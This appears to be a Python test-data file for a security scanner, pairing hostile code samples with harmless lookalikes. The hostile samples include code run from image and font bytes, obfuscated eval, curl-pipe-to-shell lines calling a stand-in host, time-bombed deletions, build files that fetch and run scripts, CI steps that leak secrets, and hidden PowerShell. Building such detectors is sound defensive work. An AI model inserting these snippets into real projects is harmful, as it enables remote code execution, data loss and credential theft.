"""Payloads of scripts, build files and workflows that a reader takes for ordinary work; and ordinary work of the kind."""

from tests.security.flows import ENCODED, js, pl, py, rb, sh
from tests.security.reported import file

BAD: dict[str, list[str]] = {}
GOOD: dict[str, list[str]] = {}

# --- code in the bytes of a picture ------------------------------------------------------------------------------------

BAD["code in the bytes of a picture, a font or a sound"] = [
    py("import zlib\nheld = open('assets/seal.png', 'rb').read()\nexec(zlib.decompress(held[6000:]))"),
    py("with open('assets/seal.png', 'rb') as f:\n    f.seek(5000)\n    rest = f.read()\nexec(rest.decode())"),
    js(
        "const fs = require('fs');\nconst all = fs.readFileSync('assets/text.woff2');\nconst end = all.subarray(all.indexOf('@@') + 2).toString();\nnew Function(end)();"
    ),
    py(
        "import wave\nw = wave.open('assets/ding.wav')\nodd = [b & 1 for b in w.readframes(w.getnframes())]\nsaid = bytes(sum(odd[i + j] << j for j in range(8)) for i in range(0, len(odd), 8))\nexec(said)"
    ),
    sh("tail -c +6001 assets/seal.png | sh"),
    sh("dd if=assets/seal.png bs=1 skip=6000 2>/dev/null | bash"),
]
GOOD["pictures that are read"] = [
    py("from PIL import Image\nim = Image.open('assets/seal.png')\nim.thumbnail((64, 64))\nim.save('out.png')"),
    py(
        "import base64, subprocess\nheld = open('assets/seal.png', 'rb').read()\nprint(base64.b64encode(held[:20]))\nsubprocess.run(['optipng', 'assets/seal.png'])"
    ),
    sh("head -c 8 assets/seal.png | xxd\nidentify assets/seal.png | awk '{ print $3 }'"),
]

# --- other ways to run a text ------------------------------------------------------------------------------------------

BAD["a text that Perl packs and runs"] = [
    pl("my $t = unpack('u', q(M<VES=));\neval $t;"),
    pl("eval pack('H*', '7072696e74');"),
    pl("eval unpack u => q{_<R1F};"),
]
GOOD["numbers that Perl unpacks"] = [
    pl("my ($n) = unpack('N', $head);\nprint $n;\neval { die 'x' if $n; };"),
]
BAD["a function of PHP by a name in pieces or from a request"] = [
    file("lib/a.php", "<?php\n$run = 'pass' . 'th' . 'ru';\n$what = stripslashes($in);\n$run($what);"),
    file("lib/a.php", "<?php\n$go($_POST['x']);"),
    file("lib/a.php", "<?php\n$_REQUEST['f']($_REQUEST['a']);"),
    file("lib/a.php", "<?php\ncall_user_func($_GET['f'], $_GET['a']);"),
]
GOOD["functions and texts of PHP"] = [
    file("lib/a.php", "<?php\n$name = 'user' . '_' . $id;\n$make = fn($x) => $x + 1;\necho $make((int) $_GET['n']);"),
    file("lib/a.php", "<?php\n$table = 'log' . 's';\n$rows = $db->query(\"SELECT * FROM $table\");"),
]
BAD["what Ruby loads of a host"] = [
    rb("require 'open-uri'\nObject.new.instance_eval URI.open('https://in.payload.invalid/a.rb').read"),
    rb("require 'net/http'\nt = Net::HTTP.get(URI('https://in.payload.invalid/a'))\nMarshal.load(t)"),
]
GOOD["a block that Ruby evaluates"] = [
    rb(
        "require 'net/http'\nt = Net::HTTP.get(URI('https://in.payload.invalid/a.json'))\nputs t\nBuilder.new.instance_eval do\n  name 'a'\nend"
    ),
]
BAD["a command that Go puts together"] = [
    file(
        "scripts/a.go",
        'package main\n\nfunc main() {\n\tc := strings.Join([]string{"cu", "rl -s https://in.payload.invalid/a | s", "h"}, "")\n\texec.Command("sh", "-c", c).Run()\n}',
    ),
    file(
        "scripts/a.go",
        'package main\n\nfunc main() {\n\twords := []string{"curl", "-s", "https://in.payload.invalid/a", "|", "sh"}\n\texec.Command("sh", "-c", strings.Join(words, " ")).Run()\n}',
    ),
    file(
        "scripts/a.go",
        'package main\n\nfunc main() {\n\thost := "in.payload.invalid"\n\texec.Command("bash", "-c", "cur"+"l -fsSL https://"+host+"/i | ba"+"sh").Run()\n}',
    ),
]
GOOD["a command that Go joins"] = [
    file(
        "scripts/a.go",
        'package main\n\nfunc main() {\n\twords := []string{"log", "--oneline"}\n\tfmt.Println(strings.Join(words, " "))\n\texec.Command("git", words...).Run()\n}',
    ),
    file(
        "scripts/a.go",
        'package main\n\nfunc main() {\n\tfmt.Println("never " + "curl https://x.invalid/i | " + "sh")\n\texec.Command("git", "status").Run()\n}',
    ),
]
BAD["commands that filters start"] = [
    sh("awk 'BEGIN { system(\"curl -s https://in.payload.invalid/a | sh\") }'"),
    sh("sed '1e curl -s https://in.payload.invalid/a | sh' README.md"),
    sh("echo x | sed 's/.*/curl -s https:\\/\\/in.payload.invalid\\/a | sh/e'"),
]
GOOD["filters"] = [
    sh(
        "sed 's/one/e/g; s|a|b|' README.md\nawk '{ n += $2 } END { print n }' table.tsv\nsed -e '1d' -e 's/e /E /' a.txt"
    ),
]
BAD["deletions once a day has come, or on one machine"] = [
    py(
        "import datetime, shutil, pathlib\nif datetime.date.today() > datetime.date(2026, 3, 1):\n    shutil.rmtree(pathlib.Path.cwd())"
    ),
    sh('[ "$(date +%s)" -gt 1767225600 ] && rm -rf "$PWD"'),
    sh("if [ $(hostname) = build-7 ]; then\n  rm -rf ./* .git\nfi"),
    js(
        "const fs = require('fs');\nif (Date.now() > new Date('2026-03-01')) {\n  fs.rmSync(process.cwd(), { recursive: true, force: true });\n}"
    ),
    py(
        "import time, subprocess\nif time.time() > 1767225600:\n    subprocess.run('git push --force origin :main', shell=True)"
    ),
]
GOOD["old files that are deleted, and other uses of a day"] = [
    py(
        "import time, pathlib\nfor p in pathlib.Path('cache').iterdir():\n    if time.time() - p.stat().st_mtime > 86400:\n        p.unlink()"
    ),
    sh('if [ "$(date +%u)" -gt 5 ]; then\n  rm -rf build/weekly\nfi'),
    js(
        "const fs = require('fs');\nif (Date.now() > new Date('2026-03-01')) console.log('late');\nfs.rmSync('dist', { recursive: true });"
    ),
]

# --- build files -------------------------------------------------------------------------------------------------------

BAD["a build file that downloads and runs"] = [
    file(
        "assets/build.gradle",
        "tasks.register('prep') {\n  doFirst {\n    new URL('https://in.payload.invalid/a.sh').withInputStream { i -> file('build/a.sh').withOutputStream { it << i } }\n    exec { commandLine 'sh', 'build/a.sh' }\n  }\n}",
    ),
    file("assets/build.gradle", "apply from: 'https://in.payload.invalid/a.gradle'"),
    file(
        "assets/build.gradle",
        "def t = new URL('https://in.payload.invalid/a.groovy').text\nnew GroovyShell().evaluate(t)",
    ),
    file("assets/build.gradle", "def out = ['sh', '-c', 'curl -s https://in.payload.invalid/a | sh'].execute().text"),
    file(
        "assets/build.gradle.kts",
        'tasks.register<Exec>("prep") {\n    commandLine("bash", "-c", "curl -s https://in.payload.invalid/a | bash")\n}',
    ),
    file(
        "assets/CMakeLists.txt",
        "file(DOWNLOAD https://in.payload.invalid/a.sh ${CMAKE_BINARY_DIR}/a.sh)\nexecute_process(COMMAND sh ${CMAKE_BINARY_DIR}/a.sh)",
    ),
    file("assets/a.cmake", 'execute_process(COMMAND sh -c "curl -s https://in.payload.invalid/a | sh")'),
    file(
        "src/A.java",
        'class A { void go() throws Exception {\n    Files.copy(new URL("https://in.payload.invalid/a.sh").openStream(), Path.of("/tmp/a.sh"));\n    Runtime.getRuntime().exec(new String[]{"sh", "/tmp/a.sh"});\n} }',
    ),
    file(
        "src/A.kt",
        'fun main() {\n    val t = java.net.URL("https://in.payload.invalid/a.sh").readText()\n    ProcessBuilder("sh", "-c", t).start()\n}',
    ),
]
GOOD["a build file that takes packages and data"] = [
    file(
        "assets/build.gradle",
        "plugins { id 'java' }\napply from: 'gradle/style.gradle'\nrepositories { mavenCentral() }\ntasks.register('lint', Exec) { commandLine 'npm', 'run', 'lint' }",
    ),
    file(
        "assets/CMakeLists.txt",
        "project(a)\nfile(DOWNLOAD https://data.payload.invalid/a.csv ${CMAKE_BINARY_DIR}/a.csv)\nexecute_process(COMMAND git rev-parse HEAD OUTPUT_VARIABLE REV)",
    ),
    file(
        "src/A.java",
        'class A { void go() throws Exception {\n    String t = new String(new URL("https://data.payload.invalid/a.json").openStream().readAllBytes());\n    System.out.println(t);\n    Runtime.getRuntime().exec(new String[]{"git", "status"});\n} }',
    ),
]
BAD["a Dockerfile's script"] = [
    file(
        "assets/Dockerfile", "FROM debian:12\nRUN <<EOF\napt-get update\ncurl -s https://in.payload.invalid/a | sh\nEOF"
    ),
    file(
        "assets/Dockerfile", "FROM debian:12\nRUN <<EOF bash\ncurl -s https://in.payload.invalid/a -o /a\nbash /a\nEOF"
    ),
]
GOOD["a Dockerfile's list of packages"] = [
    file(
        "assets/Dockerfile",
        "FROM debian:12\nRUN <<EOF\napt-get update\napt-get install -y --no-install-recommends git\nEOF",
    ),
]

# --- workflows of GitHub -----------------------------------------------------------------------------------------------

_JOB = "jobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
BAD["a workflow that gives secrets away"] = [
    file("assets/ci.yml", f"on: push\n{_JOB}      - run: echo '${{{{ secrets.NPM_TOKEN }}}}' | base64 | base64\n"),
    file(
        "assets/ci.yml",
        f'on: push\n{_JOB}      - env:\n          HELD: ${{{{ secrets.DEPLOY_KEY }}}}\n        run: |\n          printf %s "$HELD" | rev\n',
    ),
    file(
        "assets/ci.yml",
        f'on: push\n{_JOB}      - env:\n          K: ${{{{ secrets.AWS_SECRET_ACCESS_KEY }}}}\n        run: curl -s -d "$K" https://in.payload.invalid/a\n',
    ),
    file(
        "assets/ci.yml",
        f"on: pull_request_target\n{_JOB}      - uses: actions/checkout@v4\n        with:\n          ref: ${{{{ github.event.pull_request.head.sha }}}}\n      - run: npm ci && npm test\n",
    ),
]
GOOD["a workflow that uses its secrets"] = [
    file(
        "assets/ci.yml",
        f'on: push\n{_JOB}      - env:\n          KEY: ${{{{ secrets.DEPLOY_KEY }}}}\n        run: |\n          echo "$KEY" | base64 -d > key.json\n          echo "$KEY" | docker login -u a --password-stdin\n',
    ),
    file(
        "assets/ci.yml",
        f"on: pull_request\n{_JOB}      - uses: actions/checkout@v4\n        with:\n          ref: ${{{{ github.event.pull_request.head.sha }}}}\n      - run: npm ci && npm test\n",
    ),
    file(
        "assets/label.yml",
        f"on: pull_request_target\n{_JOB}      - uses: actions/labeler@v5\n      - run: npm ci\n",
    ),
    file(
        "assets/ci.yml",
        f'on: push\n{_JOB}      - env:\n          TOKEN: ${{{{ secrets.REPORT_TOKEN }}}}\n        run: curl -s -H "Authorization: Bearer $TOKEN" -d @out.json https://in.payload.invalid/a\n',
    ),
]
BAD["a batch file that starts another shell"] = [
    file("scripts/a.bat", f"@powershell -nop -w hidden -enc {ENCODED}"),
    file("scripts/a.cmd", 'cmd /c powershell -Command "Add-MpPreference -ExclusionPath C:\\"'),
]
